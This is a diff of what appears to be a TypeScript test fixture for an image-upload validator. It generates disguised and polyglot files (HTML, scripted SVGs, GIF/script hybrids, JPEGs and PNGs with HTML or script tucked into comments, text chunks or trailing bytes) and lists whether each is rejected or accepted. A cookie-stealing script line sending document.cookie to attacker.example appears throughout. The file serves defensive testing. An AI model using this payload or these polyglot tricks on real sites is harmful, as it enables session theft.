@@ -1,12 +1,12 @@
 import { gzipSync } from 'node:zlib';
 import { invalidFileType } from '#domain/media/text.ts';
 import type { HostileFile } from './hostile-files.ts';
-import { drawnJpeg, drawnPicture, drawnPng } from './plain-pictures.ts';
+import { drawnJpeg, drawnPicture, drawnPng } from './drawn-pictures.ts';
 
 const SCRIPT = '<script>fetch("https://attacker.example/"+document.cookie)</script>';
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60">${SCRIPT}</svg>`;
 
-/** What calls itself a picture and is something else, and pictures that carry something else. */
+/** Files that claim to be pictures, and pictures that contain something else. */
 export async function disguisedFiles(): Promise<HostileFile[]> {
   const rejected = (what: string, content: string | Buffer, type: string): HostileFile => ({
     what,
@@ -14,13 +14,18 @@ export async function disguisedFiles(): Promise<HostileFile[]> {
     bytes: Buffer.from(content),
     expected: invalidFileType(type),
   });
-  const taken = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, expected: 'done' });
+  const accepted = (what: string, name: string, bytes: Buffer): HostileFile => ({
+    what,
+    name,
+    bytes,
+    expected: 'done',
+  });
   const jpeg = await drawnJpeg(100);
   const gif = await drawnPicture(101).gif().toBuffer();
   return [
     rejected('an HTML page', `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`, 'text/html'),
     rejected('an HTML page after white space', `\n\n  <html>${SCRIPT}</html>`, 'text/html'),
-    rejected('a bare script element', SCRIPT, 'text/html'),
+    rejected('a lone script element', SCRIPT, 'text/html'),
     rejected('an SVG with a script', SVG, 'image/svg+xml'),
     rejected('an SVG behind an XML declaration', `<?xml version="1.0"?>${SVG}`, 'image/svg+xml'),
     rejected('an SVG behind a comment', `<!-- photograph -->${SVG}`, 'image/svg+xml'),
@@ -43,21 +48,29 @@ export async function disguisedFiles(): Promise<HostileFile[]> {
     rejected('an AVIF', await drawnPicture(103).avif({ effort: 0 }).toBuffer(), 'image/avif'),
     rejected('a bitmap of Windows', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]), 'image/bmp'),
     rejected('a GIF that is a script too', `GIF89a/*${SCRIPT}*/=1;`, 'image/gif'),
-    taken('a PNG named as a JPEG', 'a.jpg', await drawnPng(104)),
-    taken('a JPEG named as a PNG', 'a.png', await drawnJpeg(105)),
-    taken('a WebP named as a program', 'a.exe', await drawnPicture(106).webp().toBuffer()),
-    taken('a JPEG with an HTML page behind its end', 'a.html', Buffer.concat([jpeg, Buffer.from(`<html>${SCRIPT}`)])),
-    taken('a JPEG with an HTML page as its comment', 'b.html', withComment(await drawnJpeg(107), `--><html>${SCRIPT}`)),
-    taken(
+    accepted('a PNG named as a JPEG', 'a.jpg', await drawnPng(104)),
+    accepted('a JPEG named as a PNG', 'a.png', await drawnJpeg(105)),
+    accepted('a WebP named as a program', 'a.exe', await drawnPicture(106).webp().toBuffer()),
+    accepted(
+      'a JPEG with an HTML page behind its end',
+      'a.html',
+      Buffer.concat([jpeg, Buffer.from(`<html>${SCRIPT}`)]),
+    ),
+    accepted(
+      'a JPEG with an HTML page as its comment',
+      'b.html',
+      withComment(await drawnJpeg(107), `--><html>${SCRIPT}`),
+    ),
+    accepted(
       'a JPEG with a zip behind its end',
       'a.zip',
       Buffer.concat([await drawnJpeg(108), Buffer.from('PK\x03\x04zip')]),
     ),
-    taken('a PNG with a script as its text', 'a.htm', withText(await drawnPng(109), `Comment\0${SCRIPT}`)),
+    accepted('a PNG with a script as its text', 'a.htm', withText(await drawnPng(109), `Comment\0${SCRIPT}`)),
   ];
 }
 
-/** A JPEG with a comment segment right behind its first mark. */
+/** Inserts a comment segment after the first marker of a JPEG. */
 function withComment(jpeg: Buffer, comment: string): Buffer {
   const length = Buffer.alloc(2);
   length.writeUInt16BE(comment.length + 2);
@@ -70,7 +83,7 @@ function withComment(jpeg: Buffer, comment: string): Buffer {
   ]);
 }
 
-/** A PNG with a text chunk behind its header; its checksum is left at zero, which decoders forgive for such chunks. */
+/** Inserts a text chunk after the header of a PNG; decoders accept its zero checksum. */
 function withText(png: Buffer, text: string): Buffer {
   const head = Buffer.alloc(8);
   head.writeUInt32BE(text.length);
